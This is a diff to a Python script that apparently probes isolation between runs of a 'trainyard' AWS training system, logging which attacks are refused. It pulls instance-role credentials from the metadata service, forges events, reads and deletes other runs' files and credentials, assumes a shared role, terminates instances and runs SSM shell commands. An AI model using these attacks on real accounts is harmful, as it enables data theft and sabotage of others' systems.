@@ -1,13 +1,17 @@
-"""A program that attacks another run of its yard, with all that its host may do. It says what came of each try."""
+"""A program that attacks another run of its yard, as its run and as its host. It says what came of each try."""
 
 import argparse
 import json
 import os
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from functools import partial
 
 import boto3
+import botocore.session
+from botocore.credentials import InstanceMetadataProvider
 from botocore.exceptions import ClientError
+from botocore.utils import InstanceMetadataFetcher
 
 parser = argparse.ArgumentParser()
 parser.add_argument("--bucket", required=True)
@@ -17,69 +21,128 @@ parser.add_argument("--host", required=True, help="the victim's chief")
 parser.add_argument("--user", required=True, help="as IAM knows that host")
 flags = parser.parse_args()
 
-s3, events = boto3.client("s3"), boto3.client("events")
-me = boto3.client("sts").get_caller_identity()["UserId"]
+
+def host_session() -> boto3.Session:
+    """What the instance's own role gives to whoever asks the metadata service."""
+    there = InstanceMetadataProvider(InstanceMetadataFetcher(env={}))
+    own = botocore.session.Session()
+    own.get_component("credential_provider").insert_before("env", there)
+    return boto3.Session(botocore_session=own)
+
+
+as_host = host_session()
+events = as_host.client("events")
+me = as_host.client("sts").get_caller_identity()["UserId"]
 own, victim = f"runs/{os.environ['TRAINYARD_RUN']}", f"runs/{flags.victim}"
 AT = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime())
 
 
-def say(source: str, word: str, **facts: object) -> dict[str, object]:
+def entry(source: str, word: str, **facts: object) -> dict[str, str]:
     detail = {"run": flags.victim, "attempt": 1, "instance": flags.host, "at": AT, "signal": word, **facts}
-    entry = {"Source": source, "DetailType": word, "EventBusName": flags.bus, "Detail": json.dumps(detail)}
-    return events.put_events(Entries=[entry])
-
-
-def write(key: str) -> Callable[[], object]:
-    return lambda: s3.put_object(Bucket=flags.bucket, Key=key, Body=b'{"signal": "finished"}')
+    return {"Source": source, "DetailType": word, "EventBusName": flags.bus, "Detail": json.dumps(detail)}
 
 
 CONTROL = (
     *("job.json", "order.json", "plan.json", "summary.json", "timeline.jsonl", "recipe.json", "tests.json"),
     *("attempts/1/cluster.json", "attempts/2/cluster.json", "logs/builder.log"),
 )
-ATTACKS: dict[str, Callable[[], object]] = {
-    "an event in the victim's name": lambda: say(f"trainyard.host/{flags.user}", "finished", step=1),
-    "an event of no host": lambda: say("trainyard.host/", "finished", step=1),
-    "an event in the old way": lambda: say("trainyard.host", "finished", step=1),
-    "an event in patrol's name": lambda: say("trainyard.patrol", "cap"),
-    "an event in EC2's name": lambda: say("aws.ec2", "EC2 Instance State-change Notification"),
-    **{f"the victim's {key}": write(f"{victim}/{key}") for key in CONTROL},
-    **{f"its own {key}": write(f"{own}/{key}") for key in CONTROL},
-    **{
-        f"the victim's {folder}": write(f"{victim}/attempts/1/{folder}/{flags.user}.json")
-        for folder in ("words", "last-words", "leaving")
-    },
-    "a job": write("jobs/theirs.json"),
-    "a program": write("programs/theirs.tar.gz"),
-    "data": write("data/theirs.txt"),
-    "a recipe": write("images/theirs.yaml"),
-    "the victim's job deleted": lambda: s3.delete_object(Bucket=flags.bucket, Key=f"{victim}/job.json"),
-    "the victim's end": lambda: boto3.client("ec2").terminate_instances(InstanceIds=[flags.host]),
-    "the victim's tags": lambda: boto3.client("ec2").create_tags(
-        Resources=[flags.host], Tags=[{"Key": "trainyard:run", "Value": "mine"}]
-    ),
-    "a command": lambda: boto3.client("ssm").send_command(
-        InstanceIds=[flags.host], DocumentName="AWS-RunShellScript", Parameters={"commands": ["id"]}
-    ),
-    "the image's name": lambda: boto3.client("ssm").put_parameter(
-        Name="/trainyard/image", Value="ami-0", Type="String", Overwrite=True
-    ),
+WORK = ("metrics.json", "model/saved_model.pb", "checkpoints/latest.json", "attempts/1/logs/chief-0.log")
+SAID: dict[str, dict[str, str]] = {
+    "in the victim's name": entry(f"trainyard.host/{flags.user}", "finished", step=1),
+    "of no host": entry("trainyard.host/", "finished", step=1),
+    "in the old way": entry("trainyard.host", "finished", step=1),
+    "in patrol's name": entry("trainyard.patrol", "cap"),
+    "in EC2's name": entry("aws.ec2", "EC2 Instance State-change Notification"),
 }
-for name, attack in ATTACKS.items():
+Attack = Callable[[], object]
+
+
+def attacks(session: boto3.Session) -> Iterator[tuple[str, Attack]]:
+    s3, bucket = session.client("s3"), flags.bucket
+
+    def write(key: str) -> Attack:
+        return lambda: s3.put_object(Bucket=bucket, Key=key, Body=b'{"signal": "finished"}')
+
+    def read(key: str) -> Attack:
+        return lambda: s3.get_object(Bucket=bucket, Key=key)
+
+    for name, said in SAID.items():
+        yield f"an event {name}", partial(session.client("events").put_events, Entries=[said])
+    for key in (*CONTROL, *WORK):
+        yield f"the victim's {key}", write(f"{victim}/{key}")
+        yield f"the victim's {key} read", read(f"{victim}/{key}")
+        yield (
+            f"the victim's {key} deleted",
+            partial(s3.delete_objects, Bucket=bucket, Delete={"Objects": [{"Key": f"{victim}/{key}"}]}),
+        )
+        yield (
+            f"the victim's {key} copied",
+            partial(
+                s3.copy_object,
+                Bucket=bucket,
+                Key=f"{own}/model/theirs",
+                CopySource={"Bucket": bucket, "Key": f"{victim}/{key}"},
+            ),
+        )
+    for key in CONTROL:
+        yield f"its own {key}", write(f"{own}/{key}")
+    for folder in ("words", "last-words", "leaving"):
+        yield f"the victim's {folder}", write(f"{victim}/attempts/1/{folder}/{flags.user}.json")
+    for key in ("jobs/theirs.json", "programs/theirs.tar.gz", "data/theirs.txt", "images/theirs.yaml"):
+        yield f"a new {key}", write(key)
+    yield "data of others", read("data/of-others/secret.txt")
+    yield "a program of others", read("programs/of-others/secret.tar.gz")
+    yield "the victim's names", partial(s3.list_objects_v2, Bucket=bucket, Prefix=f"{victim}/")
+    yield "names of all data", partial(s3.list_objects_v2, Bucket=bucket, Prefix="data/")
+    yield "the victim's credentials", read(f"credentials/{flags.user}.json")
+    yield "credentials for the victim", write(f"credentials/{flags.user}.json")
+    yield "credentials for itself", write(f"credentials/{me}.json")
+    role = boto3.client("sts").get_caller_identity()["Arn"].split("/")[1]
+    account = boto3.client("sts").get_caller_identity()["Account"]
+    yield (
+        "the role of all runs",
+        partial(
+            session.client("sts").assume_role,
+            RoleArn=f"arn:aws:iam::{account}:role/{role}",
+            RoleSessionName="theirs",
+        ),
+    )
+    ec2, ssm = session.client("ec2"), session.client("ssm")
+    yield "the victim's end", partial(ec2.terminate_instances, InstanceIds=[flags.host])
+    tags = [{"Key": "trainyard:run", "Value": "mine"}]
+    yield "the victim's tags", partial(ec2.create_tags, Resources=[flags.host], Tags=tags)
+    run = {
+        "InstanceIds": [flags.host],
+        "DocumentName": "AWS-RunShellScript",
+        "Parameters": {"commands": ["id"]},
+    }
+    yield "a command", partial(ssm.send_command, **run)
+    image = {"Name": "/trainyard/image", "Value": "ami-0", "Type": "String", "Overwrite": True}
+    yield "the image's name", partial(ssm.put_parameter, **image)
+
+
+def outcome(attack: Attack) -> str:
     try:
-        attack()
+        answer = attack()
     except ClientError as refused:
-        print(f"attack: {name}: {refused.response['Error']['Code']}", flush=True)
-    else:
-        print(f"attack: {name}: went through", flush=True)
+        return str(refused.response["Error"]["Code"])
+    for error in answer.get("Errors", []) if isinstance(answer, dict) else []:
+        return str(error["Code"])
+    return "went through"
+
+
+for who, session in (("run", boto3.Session()), ("host", as_host)):
+    for name, attack in attacks(session):
+        print(f"attack: as the {who}: {name}: {outcome(attack)}", flush=True)
 # What IAM cannot refuse: its own voice, in which it speaks of others.
 for word, facts in {
+    "credentials": {},
     "finished": {"step": 1},
     "failed": {"kind": "program", "reason": "theirs", "final": True},
     "stopped": {"why": "asked"},
     "ready": {"address": "10.9.9.9"},
     "hold": {"until": None},
 }.items():
-    say(f"trainyard.host/{me}", word, **facts)
-    say(f"trainyard.host/{me}", word, instance=me.rpartition(":")[2], **facts)
+    for changed in ({}, {"instance": me.rpartition(":")[2]}):
+        events.put_events(Entries=[entry(f"trainyard.host/{me}", word, **changed, **facts)])
 print("all was tried")
